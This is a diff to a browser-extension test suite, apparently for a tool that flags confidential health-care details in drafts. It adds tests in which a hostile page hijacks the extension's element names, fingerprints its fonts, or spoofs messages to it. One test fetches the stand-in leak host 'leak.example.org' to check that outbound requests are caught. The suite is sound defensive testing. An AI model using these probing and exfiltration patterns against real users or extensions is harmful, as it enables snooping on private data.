@@ -1,7 +1,9 @@
 import type { Page } from 'puppeteer-core';
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { MIRROR_TAG } from '../../lib/composers/mirror-layer.ts';
 import { PANEL_TAG } from '../../lib/composers/panel-host.ts';
 import { CHROMIUM_ID, FIREFOX_ID } from '../../lib/kit/extension-ids.ts';
+import { GOOD_REQUESTS } from '../messages/any-message.ts';
 import { JOURNEY_REPLICAS, type JourneyReplica, REPLICAS } from '../replicas/replicas.ts';
 import type { Bench } from './browser/bench.ts';
 import { builtExtension } from './browser/built-extension.ts';
@@ -10,6 +12,8 @@ import { type EveryConsole, listenToConsoles } from './browser/every-console.ts'
 import { type EveryRequest, listenToRequests } from './browser/every-request.ts';
 import { everythingKept, journalRows } from './browser/extension-memory.ts';
 import { clickIn, openPopupOver, wordsOf } from './browser/extension-page.ts';
+import { pagesAt } from './browser/opened-page.ts';
+import { openOtherExtension, reachFrom } from './browser/other-extension.ts';
 import { pressKeys } from './browser/person.ts';
 import type { TestBrowser } from './browser/test-browser.ts';
 import { heardByBackground, listenAsBackground } from './browser/to-the-background.ts';
@@ -19,6 +23,10 @@ const DRAFT = 'Mme Tremblesoie, dossier 74920385, TREA 5612 1512, a refusé ses 
 const PASSAGES = ['Mme Tremblesoie', '74920385', 'TREA 5612 1512'];
 /** Words that are nowhere in the product: wherever one stands, it came from the draft. */
 const CANARY = /tremblesoie|74920385|trea\W*5612|5612\W*1512/i;
+
+/** What Vigie thinks of a text, and by which policy: rule, concern, clause, settings, decisions. */
+const THOUGHTS =
+  /cisss|cote-nord|patient-|usager|article\s\d|divulguer|contexte de soins|dismissed|continued|employee/i;
 
 const COTE_NORD = { establishment: 'cisss-cote-nord', role: 'employee', language: 'fr', journal: true };
 
@@ -84,6 +92,10 @@ describeInEachBrowser((open, kind) => {
         expect(readable).not.toMatch(CANARY);
         expect(JSON.parse(readable).overheard).toEqual([]);
       }
+    });
+
+    it('tells the page nothing of rule, concern, clause, settings or decision', () => {
+      expect(seen).not.toMatch(THOUGHTS);
     });
 
     it('does not tell the page which extension reads along', async () => {
@@ -187,6 +199,41 @@ describeInEachBrowser((open, kind) => {
       expect(await bench.published()).toEqual([]);
     });
 
+    it('is not handed a closed tree by an element that it defines under our names', async () => {
+      bench = await browser.openReplica('facebook-post');
+      await bench.page.evaluateOnNewDocument(defineOurNames, [PANEL_TAG, MIRROR_TAG]);
+      await bench.page.reload();
+      await bench.openComposer();
+      await bench.type(DRAFT);
+      await expect.poll(() => bench.highlightTexts()).toEqual(PASSAGES);
+      await bench.clickHighlight('Mme Tremblesoie');
+      await bench.inVigie.find('button', 'Lire l’article');
+      expect(await bench.page.evaluate(() => window.__handed.map(({ shadowRoot }) => shadowRoot))).toEqual([null]);
+    });
+
+    it('learns nothing from fonts that it names as ours would be', async () => {
+      bench = await browser.openReplica('facebook-post');
+      await bench.openComposer();
+      await bench.type(DRAFT);
+      await expect.poll(() => bench.highlightTexts()).toEqual(PASSAGES);
+      await bench.page.evaluate(defineFonts, FAMILIES);
+      await bench.clickHighlight('Mme Tremblesoie');
+      const read = await bench.inVigie.find('button', 'Lire l’article');
+      expect((await bench.inVigie.boundingBox(read)).width).toBeGreaterThan(0);
+      const asked = await bench.page.evaluate(() => [...document.fonts].filter(({ status }) => status !== 'unloaded'));
+      expect(asked).toEqual([]);
+    });
+
+    it('reaches no part of the extension by whatever it sends', async () => {
+      await openWatchful('facebook-post');
+      const before = await heardByBackground(background);
+      await bench.page.evaluate(sendEveryWay, [CHROMIUM_ID, FIREFOX_ID, origin], GOOD_REQUESTS);
+      await bench.type(DRAFT);
+      await expect.poll(() => bench.highlightTexts()).toEqual(PASSAGES);
+      await expect.poll(() => heardSince(before)).toEqual(['show-count']);
+      expect(await pagesAt(background, '/policy.html')).toEqual([]);
+    });
+
     it('cannot learn from a key that it makes up whether there is a warning', async () => {
       await openWatchful('facebook-post');
       await bench.type(DRAFT);
@@ -194,6 +241,32 @@ describeInEachBrowser((open, kind) => {
       expect(await bench.page.evaluate(pressShortcutByScript)).toBe(true);
       expect(await bench.inVigie.findAll('dialog')).toEqual([]);
     });
+  });
+
+  it('another extension reaches nothing by message, nor hears an answer', async () => {
+    const before = await heardByBackground(background);
+    const other = await openOtherExtension(background.browser(), kind);
+    const reached = await reachFrom(other, kind === 'chromium' ? CHROMIUM_ID : FIREFOX_ID, GOOD_REQUESTS);
+    expect(reached.filter((outcome) => outcome.startsWith('answered'))).toEqual([]);
+    expect(reached).toHaveLength(GOOD_REQUESTS.length + 2);
+    expect(await heardSince(before)).toEqual([]);
+    await other.close();
+  });
+
+  /** The kinds of what the background was told after that. */
+  async function heardSince(before: readonly string[]): Promise<string[]> {
+    const since = (await heardByBackground(background)).slice(before.length);
+    return [...new Set(since.map((message) => JSON.parse(message).type))];
+  }
+});
+
+describeInEachBrowser((open, kind) => {
+  it(`${kind} is not closed in silence when a page reached out`, async () => {
+    const browser = await open();
+    const bench = await browser.openReplica('facebook-post');
+    const blank = await bench.page.browser().newPage();
+    await blank.evaluate(() => fetch('https://leak.example.org/?said').catch(() => {}));
+    await expect(browser.close()).rejects.toThrow('https://leak.example.org/?said');
   });
 });
 
@@ -212,6 +285,61 @@ function pressByScript(x: number, y: number): { name?: string; root?: ShadowRoot
   for (const key of ['Enter', ' ']) seen?.dispatchEvent(new KeyboardEvent('keydown', { ...place, key }));
   if (seen instanceof HTMLElement) seen.click();
   return seen === null ? {} : { name: seen.localName, root: seen.shadowRoot, children: seen.childElementCount };
+}
+
+declare global {
+  interface Window {
+    /** What the browser gives whoever defines an element, once for each of ours. */
+    __handed: ElementInternals[];
+  }
+}
+
+/** The names in components/styles/tokens.css, but for Arial, in which the replica itself is set. */
+const FAMILIES = [
+  'Iowan Old Style',
+  'Charter',
+  'Cambria',
+  'Noto Serif',
+  'Georgia',
+  'Segoe UI',
+  'Roboto',
+  'Noto Sans',
+  'Helvetica Neue',
+];
+
+function defineFonts(families: readonly string[]): void {
+  const style = document.createElement('style');
+  const faces = families.map((name) => `@font-face { font-family: "${name}"; src: url(data:font/woff2;base64,AAAA); }`);
+  style.textContent = faces.join('');
+  document.head.append(style);
+}
+
+function defineOurNames(names: readonly string[]): void {
+  window.__handed = [];
+  for (const name of names) {
+    class Handed extends HTMLElement {
+      constructor() {
+        super();
+        window.__handed.push(this.attachInternals());
+      }
+    }
+    customElements.define(name, Handed);
+  }
+}
+
+/** Every way in which a script of a page may send something to whoever listens. */
+function sendEveryWay(ids: readonly string[], messages: readonly object[]): void {
+  type Runtime = { sendMessage?(...told: unknown[]): unknown; connect?(...told: unknown[]): unknown };
+  const apis = Object.values({ a: Reflect.get(window, 'chrome'), b: Reflect.get(window, 'browser') });
+  for (const { runtime } of apis.map((api) => Object(api) as { runtime?: Runtime })) {
+    for (const id of ids) for (const message of messages) runtime?.sendMessage?.(id, message);
+    for (const id of ids) runtime?.connect?.(id, { name: 'vigie-popup' });
+  }
+  for (const detail of messages) {
+    window.postMessage(detail, '*');
+    for (const type of ['message', ...ids]) document.dispatchEvent(new CustomEvent(type, { detail, bubbles: true }));
+    for (const name of ['vigie', ...ids]) new BroadcastChannel(name).postMessage(detail);
+  }
 }
 
 /** Whether a made-up Alt+Shift+V went unheard. */
